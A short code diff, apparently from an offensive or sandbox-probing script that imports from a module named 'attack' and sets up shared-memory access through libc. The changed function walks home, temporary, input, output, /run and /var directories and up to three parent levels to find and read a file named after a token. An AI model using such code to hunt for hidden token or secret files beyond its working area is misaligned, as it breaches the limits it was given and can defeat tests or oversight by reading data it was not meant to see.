@@ -1,4 +1,3 @@
-import glob
 import socket
 from attack import *
 
@@ -8,9 +7,11 @@ libc.shmat.restype = ctypes.c_void_p
 
 def near():
     for start in (home, temporary, outputs, inputs, "/run", "/var"):
-        for pattern in ("..", "../..", "../../..", "../../../.."):
-            for path in glob.glob(os.path.join(start, pattern, "**", f"{token}.txt"), recursive=True):
-                return read(path)
+        for above in ("..", "../..", "../../.."):
+            for folder, folders, files in os.walk(os.path.join(start, above)):
+                folders[:] = [name for name in folders if name not in ("proc", "sys", "usr")]
+                if f"{token}.txt" in files:
+                    return read(os.path.join(folder, f"{token}.txt"))
     return None
 
 
